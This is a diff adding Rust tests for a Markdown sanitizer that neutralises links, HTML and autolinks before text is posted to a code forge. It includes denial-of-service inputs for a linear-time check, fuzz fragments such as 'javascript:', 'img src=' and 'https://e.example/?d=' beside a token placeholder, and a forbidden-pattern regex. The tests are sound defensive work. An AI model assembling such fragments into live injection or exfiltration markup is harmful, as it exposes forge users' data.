+        assert_eq!(code_span("a`b"), "``a`b``");
+        assert_eq!(code_span("`x"), "`` `x ``");
+        assert_eq!(code_span(" x "), "`  x  `");
+        assert_eq!(code_span("two\nlines"), "`two lines`");
+        assert_eq!(code_span(""), "");
+        assert_eq!(table_cell_code("a|<img>"), "`a\u{a6}<img>`");
+    }
+
+    #[test]
+    fn long_hostile_input_is_rewritten_in_linear_time() {
+        for hostile in [
+            "[".repeat(64 * 1024),
+            format!("https://e.example/{}", ")".repeat(64 * 1024)),
+            "`".repeat(300) + &"` ".repeat(30_000),
+            "a@".repeat(32 * 1024),
+            "[x](".repeat(16 * 1024),
+        ] {
+            let started = std::time::Instant::now();
+            let shown = inert(&hostile);
+            assert!(!shown.is_empty());
+            assert!(
+                started.elapsed() < std::time::Duration::from_secs(5),
+                "{:?} for {} bytes",
+                started.elapsed(),
+                hostile.len()
+            );
+        }
+    }
+
+    /// Each line of `written` outside the fenced blocks it holds, with what a forge reads there as
+    /// markup: every code span stood in for by a space, every escaped character by another.
+    fn markup_lines(written: &str) -> Vec<(&str, String)> {
+        let mut lines = Vec::new();
+        let mut fence: Option<&str> = None;
+        for line in written.split('\n') {
+            if let Some(open) = fence {
+                if line == open {
+                    fence = None;
+                }
+                continue;
+            }
+            if line.starts_with("```") && line.bytes().all(|b| b == b'`') {
+                fence = Some(line);
+                continue;
+            }
+            let bytes = line.as_bytes();
+            let mut markup = String::new();
+            let mut at = 0;
+            while at < bytes.len() {
+                match bytes[at] {
+                    b'\\' => {
+                        markup.push(' ');
+                        at += 2;
+                    }
+                    b'`' => {
+                        let run = bytes[at..].iter().take_while(|b| **b == b'`').count();
+                        let mut close = at + run;
+                        loop {
+                            let next = close
+                                + bytes[close..]
+                                    .iter()
+                                    .position(|b| *b == b'`')
+                                    .unwrap_or_else(|| panic!("unclosed code span in {written:?}"));
+                            let length = bytes[next..].iter().take_while(|b| **b == b'`').count();
+                            close = next + length;
+                            if length == run {
+                                break;
+                            }
+                        }
+                        markup.push(' ');
+                        at = close;
+                    }
+                    _ => {
+                        let end = bytes[at..]
+                            .iter()
+                            .position(|b| matches!(b, b'\\' | b'`'))
+                            .map_or(bytes.len(), |offset| at + offset);
+                        markup.push_str(&line[at..end]);
+                        at = end;
+                    }
+                }
+            }
+            lines.push((line, markup));
+        }
+        assert!(fence.is_none(), "unclosed fence in {written:?}");
+        lines
+    }
+
+    fn fragment() -> impl Strategy<Value = &'static str> {
+        prop::sample::select(vec![
+            "![",
+            "[",
+            "]",
+            "(",
+            ")",
+            "<",
+            ">",
+            "`",
+            "``",
+            "```",
+            "~~~",
+            "\\",
+            "&",
+            "#x3C;",
+            ";",
+            "&lt;",
+            "https://e.example/?d=",
+            "HTTPS://",
+            "www.",
+            "WWW.",
+            "@",
+            "me",
+            ".example",
+            "javascript:",
+            "data:",
+            "mailto:",
+            ":",
+            "//",
+            "img src=",
+            "\"",
+            "'",
+            " ",
+            "\n",
+            "|",
+            "-",
+            "---",
+            "$",
+            "[REDACTED:github-token]",
+            "x",
+            "\u{e9}",
+            "a]: ",
+            "   [a]: ",
+            "^",
+        ])
+    }
+
+    proptest! {
+        #[test]
+        fn nothing_outside_code_can_link_fetch_or_render_html(
+            pieces in prop::collection::vec(fragment(), 0..40)
+        ) {
+            let input = pieces.concat();
+            let written = inert(&input);
+            let forbidden = regex::Regex::new(concat!(
+                r"(?i)<|\$|[a-z][a-z0-9+.-]*://|(^|[^a-z0-9])www\.",
+                r"|(^|[^a-z0-9+.-])(javascript|vbscript|data|mailto|xmpp|file):[a-z0-9/%]",
+                r"|[a-z0-9._+-]@[a-z0-9_-]+\.[a-z0-9]|&(#[0-9]+|#x[0-9a-f]+|[a-z0-9]+);",
+            ))
+            .unwrap();
+            for (line, markup) in markup_lines(&written) {
+                prop_assert!(!could_be_table_delimiter(line), "{line:?} in {written:?}");
+                let markup = markup.replace("[REDACTED:github-token]", " ");
+                let stray = forbidden
+                    .find_iter(&markup)
+                    .find(|found| !matches!(found.as_str(), "&lt;" | "&amp;"));
+                prop_assert!(stray.is_none(), "{stray:?} outside code in {written:?} (from {input:?})");
+                prop_assert!(!markup.contains(['[', ']']), "a bracket outside code in {written:?} (from {input:?})");
+            }
+        }
+    }
+}
